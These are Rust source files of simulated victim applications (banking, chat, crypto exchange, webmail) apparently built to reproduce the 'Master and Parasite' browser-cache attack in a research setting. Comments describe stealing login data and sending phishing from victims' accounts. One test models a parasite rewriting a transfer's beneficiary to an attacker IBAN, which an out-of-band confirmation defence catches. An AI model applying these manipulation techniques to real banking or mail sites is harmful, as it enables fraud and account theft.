            confirmed_out_of_band: confirmed,
        });
    }

    /// Transfers the bank has executed.
    pub fn executed_transfers(&self) -> &[ExecutedTransfer] {
        &self.executed
    }

    /// The demo account, for assertions in experiments.
    pub fn account(&self, username: &str) -> Option<&Account> {
        self.accounts.get(username)
    }
}

impl Exchange for BankingApp {
    fn exchange(&mut self, request: &Request) -> Response {
        if !request.url.host.eq_ignore_ascii_case(&self.host) {
            return Response::not_found();
        }
        match request.url.path.as_str() {
            "/login" | "/account" | "/" => Response::ok(Body::text(
                ResourceKind::Html,
                format!(
                    r#"<html><head><script src="/static/banking.js"></script></head>
                       <body><h1>{} online banking</h1></body></html>"#,
                    self.host
                ),
            ))
            .with_cache_control("no-store"),
            "/static/banking.js" => Response::ok(Body::text(
                ResourceKind::JavaScript,
                "function initBanking(){/* genuine banking code */}",
            ))
            .with_cache_control("public, max-age=604800")
            .with_etag("\"banking-v17\""),
            _ => Response::not_found(),
        }
    }

    fn name(&self) -> &str {
        &self.host
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn login_session(bank: &mut BankingApp) -> String {
        let (mut dom, form) = bank.login_dom();
        let user = dom.by_name("username").unwrap().id;
        let pass = dom.by_name("password").unwrap().id;
        dom.set_attr(user, "value", "alice");
        dom.set_attr(pass, "value", "correct-horse");
        let submission = dom.submit_form(form).unwrap();
        bank.login(&submission).expect("valid credentials")
    }

    #[test]
    fn login_succeeds_with_correct_credentials_only() {
        let mut bank = BankingApp::default();
        let session = login_session(&mut bank);
        assert_eq!(bank.session_user(&session), Some("alice"));

        let (mut dom, form) = bank.login_dom();
        let user = dom.by_name("username").unwrap().id;
        let pass = dom.by_name("password").unwrap().id;
        dom.set_attr(user, "value", "alice");
        dom.set_attr(pass, "value", "wrong");
        let bad = dom.submit_form(form).unwrap();
        assert!(bank.login(&bad).is_none());
    }

    #[test]
    fn transfer_with_otp_executes_what_the_server_received() {
        let mut bank = BankingApp::default();
        let session = login_session(&mut bank);
        let (mut dom, form) = bank.account_dom(&session).unwrap();
        let iban = dom.by_name("beneficiary_iban").unwrap().id;
        let amount = dom.by_name("amount_eur").unwrap().id;
        dom.set_attr(iban, "value", "FR76 3000 6000 0112 3456 7890 189");
        dom.set_attr(amount, "value", "250.00");
        let submission = dom.submit_form(form).unwrap();

        let outcome = bank.submit_transfer(&session, &submission);
        let TransferOutcome::OtpRequired { pending_id } = outcome else {
            panic!("expected OTP flow, got {outcome:?}");
        };
        let otp_display = bank.second_factor_display(pending_id).unwrap();
        let otp = otp_display.split_whitespace().nth(1).unwrap().to_string();
        let confirmed = bank.confirm_otp(pending_id, &otp, "FR76 3000 6000 0112 3456 7890 189");
        assert_eq!(confirmed, TransferOutcome::Executed);
        assert_eq!(bank.executed_transfers().len(), 1);
        assert_eq!(bank.account("alice").unwrap().balance_cents, 1_234_567 - 25_000);
    }

    #[test]
    fn wrong_otp_and_bad_session_are_rejected() {
        let mut bank = BankingApp::default();
        let session = login_session(&mut bank);
        let (mut dom, form) = bank.account_dom(&session).unwrap();
        let iban = dom.by_name("beneficiary_iban").unwrap().id;
        let amount = dom.by_name("amount_eur").unwrap().id;
        dom.set_attr(iban, "value", "FR76 3000 6000 0112 3456 7890 189");
        dom.set_attr(amount, "value", "10");
        let submission = dom.submit_form(form).unwrap();
        let TransferOutcome::OtpRequired { pending_id } = bank.submit_transfer(&session, &submission) else {
            panic!()
        };
        assert!(matches!(
            bank.confirm_otp(pending_id, "000000", "FR76 ..."),
            TransferOutcome::Rejected { .. }
        ));
        assert!(matches!(
            bank.submit_transfer("no-such-session", &submission),
            TransferOutcome::Rejected { .. }
        ));
    }

    #[test]
    fn insufficient_funds_and_bad_amounts_are_rejected() {
        let mut bank = BankingApp::default();
        let session = login_session(&mut bank);
        let (mut dom, form) = bank.account_dom(&session).unwrap();
        let iban = dom.by_name("beneficiary_iban").unwrap().id;
        let amount = dom.by_name("amount_eur").unwrap().id;
        dom.set_attr(iban, "value", "FR76 ...");
        dom.set_attr(amount, "value", "999999999");
        let too_much = dom.submit_form(form).unwrap();
        assert!(matches!(
            bank.submit_transfer(&session, &too_much),
            TransferOutcome::Rejected { .. }
        ));
        dom.set_attr(amount, "value", "not-a-number");
        let bad_amount = dom.submit_form(form).unwrap();
        assert!(matches!(
            bank.submit_transfer(&session, &bad_amount),
            TransferOutcome::Rejected { .. }
        ));
    }

    #[test]
    fn out_of_band_confirmation_catches_detail_mismatch() {
        let mut bank = BankingApp::new("bank.example").with_out_of_band_confirmation();
        let session = login_session(&mut bank);
        let (mut dom, form) = bank.account_dom(&session).unwrap();
        let iban = dom.by_name("beneficiary_iban").unwrap().id;
        let amount = dom.by_name("amount_eur").unwrap().id;
        // The parasite silently rewrote the beneficiary before submission.
        dom.set_attr(iban, "value", "GB29 ATTACKER 0000 0000 0000 00");
        dom.set_attr(amount, "value", "250.00");
        let submission = dom.submit_form(form).unwrap();
        let TransferOutcome::OtpRequired { pending_id } = bank.submit_transfer(&session, &submission) else {
            panic!()
        };
        // The user believes they are paying their landlord; the second device
        // shows the attacker IBAN, so they refuse.
        let display = bank.second_factor_display(pending_id).unwrap();
        assert!(display.contains("ATTACKER"));
        let otp = display.split_whitespace().nth(1).unwrap().to_string();
        let outcome = bank.confirm_otp(pending_id, &otp, "FR76 3000 6000 0112 3456 7890 189");
        assert!(matches!(outcome, TransferOutcome::Rejected { .. }));
        assert!(bank.executed_transfers().is_empty());
    }

    #[test]
    fn http_surface_serves_page_and_persistent_script() {
        let mut bank = BankingApp::default();
        let page = bank.exchange(&Request::get(bank.login_url()));
        assert!(page.body.as_text().contains("/static/banking.js"));
        let script = bank.exchange(&Request::get(bank.script_url()));
        assert_eq!(script.body.kind, ResourceKind::JavaScript);
        assert!(script.headers.get("cache-control").unwrap().contains("max-age"));
    }
}
