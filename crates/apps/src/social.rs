//! Simulated social-network / chat application.
//!
//! Target of the Table V "Send Phishing" row (WhatsApp-Web-style chat with
//! harvestable contacts and message history) and of the login-theft module.

use mp_browser::dom::{Dom, ElementId, FormSubmission};
use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::message::{Request, Response};
use mp_httpsim::transport::Exchange;
use mp_httpsim::url::{Scheme, Url};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// A chat message.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ChatMessage {
    /// Sender handle.
    pub from: String,
    /// Recipient handle.
    pub to: String,
    /// Message text.
    pub text: String,
}

/// The social/chat application.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SocialApp {
    /// Host the application is served from.
    pub host: String,
    passwords: HashMap<String, String>,
    friends: HashMap<String, Vec<String>>,
    messages: Vec<ChatMessage>,
    sessions: HashMap<String, String>,
    next_session: u64,
}

impl Default for SocialApp {
    fn default() -> Self {
        Self::new("social.example")
    }
}

impl SocialApp {
    /// Creates the application with a demo user `alice` and her friends.
    pub fn new(host: impl Into<String>) -> Self {
        let mut passwords = HashMap::new();
        passwords.insert("alice".to_string(), "social-pass".to_string());
        let mut friends = HashMap::new();
        friends.insert(
            "alice".to_string(),
            vec!["bob".to_string(), "carol".to_string(), "dave".to_string()],
        );
        SocialApp {
            host: host.into(),
            passwords,
            friends,
            messages: vec![ChatMessage {
                from: "bob".into(),
                to: "alice".into(),
                text: "did you transfer the rent yet?".into(),
            }],
            sessions: HashMap::new(),
            next_session: 1,
        }
    }

    /// Login page URL.
    pub fn login_url(&self) -> Url {
        Url::from_parts(Scheme::Https, self.host.clone(), "/login")
    }

    /// URL of the persistent application script (infection target).
    pub fn script_url(&self) -> Url {
        Url::from_parts(Scheme::Https, self.host.clone(), "/static/social.js")
    }

    /// Builds the login form DOM.
    pub fn login_dom(&self) -> (Dom, ElementId) {
        let mut dom = Dom::new(self.login_url());
        let form = dom.add_markup_element("form", &[("action", "/do-login"), ("id", "social-login")], "");
        dom.add_input(form, "handle", "text", "");
        dom.add_input(form, "password", "password", "");
        (dom, form)
    }

    /// Processes a login submission.
    pub fn login(&mut self, submission: &FormSubmission) -> Option<String> {
        let handle = submission.fields.get("handle")?;
        let password = submission.fields.get("password")?;
        if self.passwords.get(handle)? != password {
            return None;
        }
        let token = format!("social-session-{}", self.next_session);
        self.next_session += 1;
        self.sessions.insert(token.clone(), handle.clone());
        Some(token)
    }

    /// Builds the chat page DOM: visible message history plus the contact list.
    pub fn chat_dom(&self, session: &str) -> Option<Dom> {
        let user = self.sessions.get(session)?;
        let mut dom = Dom::new(Url::from_parts(Scheme::Https, self.host.clone(), "/chat"));
        for message in self.messages.iter().filter(|m| &m.to == user || &m.from == user) {
            dom.add_markup_element(
                "div",
                &[("class", "message")],
                &format!("{} -> {}: {}", message.from, message.to, message.text),
            );
        }
        for friend in self.friends.get(user).cloned().unwrap_or_default() {
            dom.add_markup_element("span", &[("class", "contact")], &friend);
        }
        Some(dom)
    }

    /// Sends a chat message from the logged-in user.
    pub fn send_message(&mut self, session: &str, to: &str, text: &str) -> bool {
        let Some(from) = self.sessions.get(session).cloned() else {
            return false;
        };
        self.messages.push(ChatMessage {
            from,
            to: to.to_string(),
            text: text.to_string(),
        });
        true
    }

    /// Friends of the logged-in user.
    pub fn friends_of(&self, session: &str) -> Vec<String> {
        self.sessions
            .get(session)
            .and_then(|u| self.friends.get(u))
            .cloned()
            .unwrap_or_default()
    }

    /// All messages (for experiment assertions).
    pub fn messages(&self) -> &[ChatMessage] {
        &self.messages
    }
}

impl Exchange for SocialApp {
    fn exchange(&mut self, request: &Request) -> Response {
        if !request.url.host.eq_ignore_ascii_case(&self.host) {
            return Response::not_found();
        }
        match request.url.path.as_str() {
            "/login" | "/chat" | "/" => Response::ok(Body::text(
                ResourceKind::Html,
                r#"<html><head><script src="/static/social.js"></script></head><body>social</body></html>"#,
            ))
            .with_cache_control("no-store"),
            "/static/social.js" => Response::ok(Body::text(
                ResourceKind::JavaScript,
                "function initSocial(){/* genuine social code */}",
            ))
            .with_cache_control("public, max-age=604800")
            .with_etag("\"social-v9\""),
            _ => Response::not_found(),
        }
    }

    fn name(&self) -> &str {
        &self.host
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn session(app: &mut SocialApp) -> String {
        let (mut dom, form) = app.login_dom();
        let handle = dom.by_name("handle").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(handle, "value", "alice");
        dom.set_attr(password, "value", "social-pass");
        let submission = dom.submit_form(form).unwrap();
        app.login(&submission).unwrap()
    }

    #[test]
    fn chat_dom_exposes_history_and_contacts() {
        let mut app = SocialApp::default();
        let token = session(&mut app);
        let dom = app.chat_dom(&token).unwrap();
        let text = dom.visible_text();
        assert!(text.contains("rent"));
        assert!(text.contains("carol"));
        assert!(app.chat_dom("nope").is_none());
    }

    #[test]
    fn sending_messages_requires_a_session() {
        let mut app = SocialApp::default();
        let token = session(&mut app);
        assert!(app.send_message(&token, "bob", "hey bob"));
        assert!(!app.send_message("invalid", "bob", "hey"));
        assert_eq!(app.messages().len(), 2);
        assert_eq!(app.messages().last().unwrap().from, "alice");
    }

    #[test]
    fn friends_list_is_harvestable() {
        let mut app = SocialApp::default();
        let token = session(&mut app);
        assert_eq!(app.friends_of(&token), vec!["bob", "carol", "dave"]);
    }

    #[test]
    fn bad_credentials_rejected() {
        let mut app = SocialApp::default();
        let (mut dom, form) = app.login_dom();
        let handle = dom.by_name("handle").unwrap().id;
        dom.set_attr(handle, "value", "alice");
        let submission = dom.submit_form(form).unwrap();
        assert!(app.login(&submission).is_none());
    }

    #[test]
    fn http_surface_serves_persistent_script() {
        let mut app = SocialApp::default();
        let script = app.exchange(&Request::get(app.script_url()));
        assert_eq!(script.body.kind, ResourceKind::JavaScript);
    }
}
