//! # mp-apps
//!
//! Simulated victim applications for the *Master and Parasite Attack*
//! reproduction — the targets of the Table V application attacks.
//!
//! Each application exposes two surfaces:
//!
//! * an HTTP surface ([`mp_httpsim::transport::Exchange`]) serving its pages
//!   and a long-lived, cacheable application script — the object the parasite
//!   infects, and
//! * a DOM-level state machine ([`mp_browser::dom::Dom`] builders plus
//!   server-side handlers) modelling what the victim sees and does: login
//!   forms, account/balance views, transfer and withdrawal forms, OTP
//!   confirmation, inboxes and chats.
//!
//! * [`banking`] — online banking with OTP 2FA and the out-of-band
//!   confirmation defence (§VIII),
//! * [`webmail`] — web mail with inbox text, contacts and send capability,
//! * [`social`] — social network / chat with harvestable contacts,
//! * [`exchange`] — crypto exchange with withdrawal-address flow.
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod banking;
pub mod exchange;
pub mod social;
pub mod webmail;

pub use banking::{Account, BankingApp, ExecutedTransfer, PendingTransfer, TransferOutcome};
pub use exchange::{CryptoExchangeApp, Withdrawal};
pub use social::{ChatMessage, SocialApp};
pub use webmail::{Email, Mailbox, WebMailApp};
