//! Simulated crypto-currency exchange.
//!
//! Target of the Table V rows "Steal Login Data" (crypto-exchanges),
//! "Website Data" (account numbers / balances read from the DOM) and
//! "Transaction Manipulation" (withdrawal-address rewriting).

use mp_browser::dom::{Dom, ElementId, FormSubmission};
use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::message::{Request, Response};
use mp_httpsim::transport::Exchange;
use mp_httpsim::url::{Scheme, Url};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// An executed withdrawal.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Withdrawal {
    /// Account that withdrew.
    pub user: String,
    /// Destination wallet address as executed.
    pub destination: String,
    /// Amount in satoshi-like base units.
    pub amount: u64,
}

/// The crypto-exchange application.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CryptoExchangeApp {
    /// Host the exchange is served from.
    pub host: String,
    passwords: HashMap<String, String>,
    balances: HashMap<String, u64>,
    deposit_addresses: HashMap<String, String>,
    sessions: HashMap<String, String>,
    withdrawals: Vec<Withdrawal>,
    next_session: u64,
}

impl Default for CryptoExchangeApp {
    fn default() -> Self {
        Self::new("exchange.example")
    }
}

impl CryptoExchangeApp {
    /// Creates the exchange with one demo account.
    pub fn new(host: impl Into<String>) -> Self {
        let mut passwords = HashMap::new();
        passwords.insert("alice".to_string(), "to-the-moon".to_string());
        let mut balances = HashMap::new();
        balances.insert("alice".to_string(), 5_000_000);
        let mut deposit_addresses = HashMap::new();
        deposit_addresses.insert("alice".to_string(), "bc1qalice000000000000000000000000000000".to_string());
        CryptoExchangeApp {
            host: host.into(),
            passwords,
            balances,
            deposit_addresses,
            sessions: HashMap::new(),
            withdrawals: Vec::new(),
            next_session: 1,
        }
    }

    /// Login page URL.
    pub fn login_url(&self) -> Url {
        Url::from_parts(Scheme::Https, self.host.clone(), "/login")
    }

    /// URL of the persistent trading script (infection target).
    pub fn script_url(&self) -> Url {
        Url::from_parts(Scheme::Https, self.host.clone(), "/static/trade.js")
    }

    /// Builds the login form DOM.
    pub fn login_dom(&self) -> (Dom, ElementId) {
        let mut dom = Dom::new(self.login_url());
        let form = dom.add_markup_element("form", &[("action", "/do-login"), ("id", "exchange-login")], "");
        dom.add_input(form, "account", "text", "");
        dom.add_input(form, "password", "password", "");
        (dom, form)
    }

    /// Processes a login submission.
    pub fn login(&mut self, submission: &FormSubmission) -> Option<String> {
        let account = submission.fields.get("account")?;
        let password = submission.fields.get("password")?;
        if self.passwords.get(account)? != password {
            return None;
        }
        let token = format!("exchange-session-{}", self.next_session);
        self.next_session += 1;
        self.sessions.insert(token.clone(), account.clone());
        Some(token)
    }

    /// Builds the wallet page DOM: balance, deposit address (readable by the
    /// parasite) and the withdrawal form.
    pub fn wallet_dom(&self, session: &str) -> Option<(Dom, ElementId)> {
        let user = self.sessions.get(session)?;
        let mut dom = Dom::new(Url::from_parts(Scheme::Https, self.host.clone(), "/wallet"));
        dom.add_markup_element(
            "div",
            &[("id", "balance")],
            &format!("Balance: {} sats", self.balances.get(user).copied().unwrap_or(0)),
        );
        dom.add_markup_element(
            "div",
            &[("id", "deposit-address")],
            self.deposit_addresses.get(user).map(String::as_str).unwrap_or(""),
        );
        let form = dom.add_markup_element("form", &[("action", "/withdraw"), ("id", "withdraw-form")], "");
        dom.add_input(form, "destination", "text", "");
        dom.add_input(form, "amount", "text", "");
        Some((dom, form))
    }

    /// Submits the withdrawal form; the server executes whatever destination
    /// address it receives.
    pub fn submit_withdrawal(&mut self, session: &str, submission: &FormSubmission) -> bool {
        let Some(user) = self.sessions.get(session).cloned() else {
            return false;
        };
        let Some(destination) = submission.fields.get("destination").cloned() else {
            return false;
        };
        let amount = submission
            .fields
            .get("amount")
            .and_then(|a| a.parse::<u64>().ok())
            .unwrap_or(0);
        let Some(balance) = self.balances.get_mut(&user) else {
            return false;
        };
        if amount == 0 || amount > *balance {
            return false;
        }
        *balance -= amount;
        self.withdrawals.push(Withdrawal {
            user,
            destination,
            amount,
        });
        true
    }

    /// Withdrawals executed so far.
    pub fn withdrawals(&self) -> &[Withdrawal] {
        &self.withdrawals
    }

    /// Balance of a user.
    pub fn balance(&self, user: &str) -> u64 {
        self.balances.get(user).copied().unwrap_or(0)
    }
}

impl Exchange for CryptoExchangeApp {
    fn exchange(&mut self, request: &Request) -> Response {
        if !request.url.host.eq_ignore_ascii_case(&self.host) {
            return Response::not_found();
        }
        match request.url.path.as_str() {
            "/login" | "/wallet" | "/" => Response::ok(Body::text(
                ResourceKind::Html,
                r#"<html><head><script src="/static/trade.js"></script></head><body>exchange</body></html>"#,
            ))
            .with_cache_control("no-store"),
            "/static/trade.js" => Response::ok(Body::text(
                ResourceKind::JavaScript,
                "function initTrading(){/* genuine trading code */}",
            ))
            .with_cache_control("public, max-age=604800")
            .with_etag("\"trade-v2\""),
            _ => Response::not_found(),
        }
    }

    fn name(&self) -> &str {
        &self.host
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn session(app: &mut CryptoExchangeApp) -> String {
        let (mut dom, form) = app.login_dom();
        let account = dom.by_name("account").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(account, "value", "alice");
        dom.set_attr(password, "value", "to-the-moon");
        let submission = dom.submit_form(form).unwrap();
        app.login(&submission).unwrap()
    }

    #[test]
    fn wallet_dom_shows_balance_and_deposit_address() {
        let mut app = CryptoExchangeApp::default();
        let token = session(&mut app);
        let (dom, _) = app.wallet_dom(&token).unwrap();
        let text = dom.visible_text();
        assert!(text.contains("5000000 sats"));
        assert!(text.contains("bc1qalice"));
    }

    #[test]
    fn withdrawal_executes_the_submitted_destination() {
        let mut app = CryptoExchangeApp::default();
        let token = session(&mut app);
        let (mut dom, form) = app.wallet_dom(&token).unwrap();
        let destination = dom.by_name("destination").unwrap().id;
        let amount = dom.by_name("amount").unwrap().id;
        dom.set_attr(destination, "value", "bc1qlegitimatefriend00000000000000000");
        dom.set_attr(amount, "value", "100000");
        let submission = dom.submit_form(form).unwrap();
        assert!(app.submit_withdrawal(&token, &submission));
        assert_eq!(app.withdrawals()[0].destination, "bc1qlegitimatefriend00000000000000000");
        assert_eq!(app.balance("alice"), 4_900_000);
    }

    #[test]
    fn invalid_withdrawals_are_rejected() {
        let mut app = CryptoExchangeApp::default();
        let token = session(&mut app);
        let (mut dom, form) = app.wallet_dom(&token).unwrap();
        let destination = dom.by_name("destination").unwrap().id;
        let amount = dom.by_name("amount").unwrap().id;
        dom.set_attr(destination, "value", "bc1qdest");
        dom.set_attr(amount, "value", "999999999999");
        let too_much = dom.submit_form(form).unwrap();
        assert!(!app.submit_withdrawal(&token, &too_much));
        dom.set_attr(amount, "value", "100");
        let ok = dom.submit_form(form).unwrap();
        assert!(!app.submit_withdrawal("bad-session", &ok));
    }

    #[test]
    fn login_requires_correct_password() {
        let mut app = CryptoExchangeApp::default();
        let (mut dom, form) = app.login_dom();
        let account = dom.by_name("account").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(account, "value", "alice");
        dom.set_attr(password, "value", "to-the-sun");
        let submission = dom.submit_form(form).unwrap();
        assert!(app.login(&submission).is_none());
    }

    #[test]
    fn http_surface_serves_persistent_script() {
        let mut app = CryptoExchangeApp::default();
        let script = app.exchange(&Request::get(app.script_url()));
        assert_eq!(script.body.kind, ResourceKind::JavaScript);
        assert!(script.headers.get("cache-control").unwrap().contains("604800"));
    }
}
