//! Simulated web-mail application.
//!
//! Target of the Table V attacks "Steal Login Data" (Gmail-style login),
//! "Website Data" (reading email text from the DOM) and "Send Phishing"
//! (harvesting contacts and sending personalised mail from the victim's own
//! account while a tab is open).

use mp_browser::dom::{Dom, ElementId, FormSubmission};
use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::message::{Request, Response};
use mp_httpsim::transport::Exchange;
use mp_httpsim::url::{Scheme, Url};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// An email message.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Email {
    /// Sender address.
    pub from: String,
    /// Recipient address.
    pub to: String,
    /// Subject line.
    pub subject: String,
    /// Body text.
    pub body: String,
}

/// One user's mailbox.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct Mailbox {
    /// Received messages.
    pub inbox: Vec<Email>,
    /// Sent messages.
    pub sent: Vec<Email>,
    /// Address book.
    pub contacts: Vec<String>,
}

/// The web-mail application.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct WebMailApp {
    /// Host the application is served from.
    pub host: String,
    passwords: HashMap<String, String>,
    mailboxes: HashMap<String, Mailbox>,
    sessions: HashMap<String, String>,
    next_session: u64,
}

impl Default for WebMailApp {
    fn default() -> Self {
        Self::new("mail.example")
    }
}

impl WebMailApp {
    /// Creates the application with one demo user (`alice@mail.example`).
    pub fn new(host: impl Into<String>) -> Self {
        let mut passwords = HashMap::new();
        passwords.insert("alice@mail.example".to_string(), "mail-pass-123".to_string());
        let mut mailboxes = HashMap::new();
        mailboxes.insert(
            "alice@mail.example".to_string(),
            Mailbox {
                inbox: vec![
                    Email {
                        from: "bob@corp.example".into(),
                        to: "alice@mail.example".into(),
                        subject: "Q3 invoice".into(),
                        body: "Hi Alice, the invoice total is 18,400 EUR, account FR76 3000 6000 0112 3456 7890 189.".into(),
                    },
                    Email {
                        from: "carol@friends.example".into(),
                        to: "alice@mail.example".into(),
                        subject: "weekend".into(),
                        body: "See you Saturday at the lake!".into(),
                    },
                ],
                sent: Vec::new(),
                contacts: vec![
                    "bob@corp.example".into(),
                    "carol@friends.example".into(),
                    "dave@partners.example".into(),
                ],
            },
        );
        WebMailApp {
            host: host.into(),
            passwords,
            mailboxes,
            sessions: HashMap::new(),
            next_session: 1,
        }
    }

    /// Login page URL.
    pub fn login_url(&self) -> Url {
        Url::from_parts(Scheme::Https, self.host.clone(), "/login")
    }

    /// URL of the persistent mail script (infection target).
    pub fn script_url(&self) -> Url {
        Url::from_parts(Scheme::Https, self.host.clone(), "/static/mail.js")
    }

    /// Builds the login form DOM.
    pub fn login_dom(&self) -> (Dom, ElementId) {
        let mut dom = Dom::new(self.login_url());
        let form = dom.add_markup_element("form", &[("action", "/do-login"), ("id", "mail-login")], "");
        dom.add_input(form, "email", "text", "");
        dom.add_input(form, "password", "password", "");
        (dom, form)
    }

    /// Processes a login submission.
    pub fn login(&mut self, submission: &FormSubmission) -> Option<String> {
        let email = submission.fields.get("email")?;
        let password = submission.fields.get("password")?;
        if self.passwords.get(email)? != password {
            return None;
        }
        let token = format!("mail-session-{}", self.next_session);
        self.next_session += 1;
        self.sessions.insert(token.clone(), email.clone());
        Some(token)
    }

    /// Builds the inbox DOM for a session: the email text is part of the DOM,
    /// which is exactly what the parasite reads.
    pub fn inbox_dom(&self, session: &str) -> Option<Dom> {
        let user = self.sessions.get(session)?;
        let mailbox = self.mailboxes.get(user)?;
        let mut dom = Dom::new(Url::from_parts(Scheme::Https, self.host.clone(), "/inbox"));
        for (i, mail) in mailbox.inbox.iter().enumerate() {
            dom.add_markup_element(
                "div",
                &[("class", "email"), ("id", &format!("mail-{i}"))],
                &format!("From: {} | Subject: {} | {}", mail.from, mail.subject, mail.body),
            );
        }
        for contact in &mailbox.contacts {
            dom.add_markup_element("span", &[("class", "contact")], contact);
        }
        Some(dom)
    }

    /// Sends an email from the logged-in user's account (what the compose
    /// button does — and what the phishing module drives programmatically).
    pub fn send_email(&mut self, session: &str, to: &str, subject: &str, body: &str) -> bool {
        let Some(user) = self.sessions.get(session).cloned() else {
            return false;
        };
        let mail = Email {
            from: user.clone(),
            to: to.to_string(),
            subject: subject.to_string(),
            body: body.to_string(),
        };
        if let Some(mailbox) = self.mailboxes.get_mut(&user) {
            mailbox.sent.push(mail.clone());
        }
        // Deliver locally if the recipient is hosted here.
        if let Some(inbox) = self.mailboxes.get_mut(to) {
            inbox.inbox.push(mail);
        }
        true
    }

    /// The mailbox of a user (for experiment assertions).
    pub fn mailbox(&self, user: &str) -> Option<&Mailbox> {
        self.mailboxes.get(user)
    }

    /// Contacts of the logged-in user.
    pub fn contacts(&self, session: &str) -> Vec<String> {
        self.sessions
            .get(session)
            .and_then(|u| self.mailboxes.get(u))
            .map(|m| m.contacts.clone())
            .unwrap_or_default()
    }
}

impl Exchange for WebMailApp {
    fn exchange(&mut self, request: &Request) -> Response {
        if !request.url.host.eq_ignore_ascii_case(&self.host) {
            return Response::not_found();
        }
        match request.url.path.as_str() {
            "/login" | "/inbox" | "/" => Response::ok(Body::text(
                ResourceKind::Html,
                r#"<html><head><script src="/static/mail.js"></script></head><body>webmail</body></html>"#,
            ))
            .with_cache_control("no-store"),
            "/static/mail.js" => Response::ok(Body::text(
                ResourceKind::JavaScript,
                "function initMail(){/* genuine mail code */}",
            ))
            .with_cache_control("public, max-age=604800")
            .with_etag("\"mail-v4\""),
            _ => Response::not_found(),
        }
    }

    fn name(&self) -> &str {
        &self.host
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn session(app: &mut WebMailApp) -> String {
        let (mut dom, form) = app.login_dom();
        let email = dom.by_name("email").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(email, "value", "alice@mail.example");
        dom.set_attr(password, "value", "mail-pass-123");
        let submission = dom.submit_form(form).unwrap();
        app.login(&submission).unwrap()
    }

    #[test]
    fn login_and_read_inbox_from_dom() {
        let mut app = WebMailApp::default();
        let session = session(&mut app);
        let dom = app.inbox_dom(&session).unwrap();
        let text = dom.visible_text();
        assert!(text.contains("Q3 invoice"));
        assert!(text.contains("FR76 3000 6000 0112 3456 7890 189"));
        assert!(text.contains("dave@partners.example"));
        assert!(app.inbox_dom("bad-session").is_none());
    }

    #[test]
    fn wrong_password_is_rejected() {
        let mut app = WebMailApp::default();
        let (mut dom, form) = app.login_dom();
        let email = dom.by_name("email").unwrap().id;
        let password = dom.by_name("password").unwrap().id;
        dom.set_attr(email, "value", "alice@mail.example");
        dom.set_attr(password, "value", "guess");
        let submission = dom.submit_form(form).unwrap();
        assert!(app.login(&submission).is_none());
    }

    #[test]
    fn sending_email_records_it_in_sent_folder() {
        let mut app = WebMailApp::default();
        let token = session(&mut app);
        assert!(app.send_email(&token, "bob@corp.example", "hello", "hi bob"));
        let mailbox = app.mailbox("alice@mail.example").unwrap();
        assert_eq!(mailbox.sent.len(), 1);
        assert_eq!(mailbox.sent[0].to, "bob@corp.example");
        assert!(!app.send_email("invalid", "x@y", "s", "b"));
    }

    #[test]
    fn contacts_are_listed_for_valid_sessions_only() {
        let mut app = WebMailApp::default();
        let token = session(&mut app);
        assert_eq!(app.contacts(&token).len(), 3);
        assert!(app.contacts("nope").is_empty());
    }

    #[test]
    fn http_surface_serves_persistent_script() {
        let mut app = WebMailApp::default();
        let script = app.exchange(&Request::get(app.script_url()));
        assert_eq!(script.body.kind, ResourceKind::JavaScript);
        assert!(script.headers.get("etag").is_some());
    }
}
